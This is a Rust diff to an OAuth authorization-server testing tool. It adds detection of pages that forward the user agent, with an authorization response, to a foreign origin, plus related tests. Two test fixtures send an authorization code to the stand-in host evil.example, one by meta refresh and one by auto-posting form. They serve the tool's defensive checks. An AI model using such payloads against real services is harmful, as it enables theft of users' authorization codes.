@@ -5,7 +5,7 @@ use url::Url;
 use super::callback::{Callback, ResponseMode};
 use super::exchange::{Exchange, Failure, Hop, Response};
 use super::landmarks::Landmarks;
-use super::page::{ControlKind, Page};
+use super::page::{ControlKind, Page, Refresh};
 
 /// What a target answered to an authorization request. It has no opinion: whether this is right is for `check`.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -31,6 +31,13 @@ pub enum Answer {
     ConsentPage {
         /// Where the page is.
         url: Url,
+    },
+    /// A page that asks for something that the profile's sign-in script does not know.
+    UnknownPage {
+        /// Where the page is.
+        url: Url,
+        /// Its title.
+        title: String,
     },
     /// The user agent was sent to a registered redirect URI.
     Callback(Callback),
@@ -116,12 +123,16 @@ impl Answer {
         if let Some(callback) = form_post(&page, response.status, landmarks) {
             return Self::Callback(callback);
         }
+        // A page can send the user agent on as well as a redirect can.
+        if let Some(url) = foreign_place(&page, response, &url, landmarks) {
+            return Self::Elsewhere { url };
+        }
         let marked = |marks: &[String]| {
             marks
                 .iter()
                 .any(|mark| Page::has(&response.body, mark) == Ok(true))
         };
-        if marked(&landmarks.consent_marks) {
+        if response.status < 400 && marked(&landmarks.consent_marks) {
             return Self::ConsentPage { url };
         }
         if response.status < 400 && (marked(&landmarks.login_marks) || page.asks_for_password()) {
@@ -139,6 +150,9 @@ impl Answer {
         }
         if response.body.trim().is_empty() {
             return Self::Broken(Breakage::NothingToShow(response.status));
+        }
+        if !page.forms.is_empty() {
+            return Self::UnknownPage { url, title: page.title };
         }
         Self::ErrorPage {
             status: response.status,
@@ -160,6 +174,11 @@ impl Answer {
             Self::ErrorPage { status, .. } => format!("an error page (HTTP {status})"),
             Self::LoginPage { url, .. } => format!("the login page {}", place(url)),
             Self::ConsentPage { url } => format!("the consent page {}", place(url)),
+            Self::UnknownPage { url, title } => format!(
+                "the page `{title}` at {}, for which the sign-in script has no rule (hint: add one to `sign_in.steps`, \
+                 with `page: consent` if it asks for consent)",
+                place(url)
+            ),
             Self::Callback(callback) => match (callback.error(), callback.code()) {
                 (Some(error), None) => {
                     format!("the client got the error `{error}` (HTTP {})", callback.status)
@@ -201,6 +220,18 @@ fn place(url: &Url) -> String {
     format!("`{bare}`")
 }
 
+/// A place that is neither the target's own nor a client's to which a page sends the user agent by itself: by a refresh
+/// or by a form that carries an authorization response.
+fn foreign_place(page: &Page, response: &Response, at: &Url, landmarks: &Landmarks) -> Option<Url> {
+    let header = response.header("refresh").and_then(Refresh::read);
+    let carries_response = |control: &super::page::Control| matches!(control.name.as_str(), "code" | "error" | "id_token");
+    let forms = page.forms.iter().filter(|form| form.controls.iter().any(carries_response));
+    let targets = page.refresh.iter().chain(&header).map(|refresh| refresh.target.clone()).chain(forms.filter_map(|form| form.action.clone()));
+    targets
+        .filter_map(|target| at.join(&target).ok())
+        .find(|url| !landmarks.is_own(url) && landmarks.redirect_uri(url).is_none() && url.origin() != at.origin())
+}
+
 /// A page whose form posts an authorization response to a registered redirect URI.
 fn form_post(page: &Page, status: u16, landmarks: &Landmarks) -> Option<Callback> {
     let form = page.forms.iter().find(|form| form.post)?;
@@ -220,6 +251,7 @@ fn form_post(page: &Page, status: u16, landmarks: &Landmarks) -> Option<Callback
             redirect_uri,
             mode: ResponseMode::FormPost,
             parameters,
+            stray: Vec::new(),
             status,
         })
 }
@@ -307,6 +339,26 @@ mod tests {
                 "<p>No such client</p><form><input type=password name=p></form>"
             ),
             Answer::ErrorPage { .. }
+        ));
+    }
+
+    #[test]
+    fn a_page_that_sends_the_user_agent_to_a_foreign_place_is_no_error_page() {
+        for body in [
+            "<meta http-equiv=refresh content='0;url=https://evil.example/cb?code=x'>",
+            "<form method=post action='https://evil.example/cb'><input type=hidden name=code value=x></form>",
+        ] {
+            for status in [200, 400] {
+                assert!(matches!(answer(status, None, body), Answer::Elsewhere { .. }), "{status} {body}");
+            }
+        }
+    }
+
+    #[test]
+    fn a_page_that_asks_for_something_unknown_is_not_taken_for_an_error() {
+        assert!(matches!(
+            answer(200, None, "<title>Terms</title><form><input name=accept type=checkbox></form>"),
+            Answer::UnknownPage { .. }
         ));
     }
 
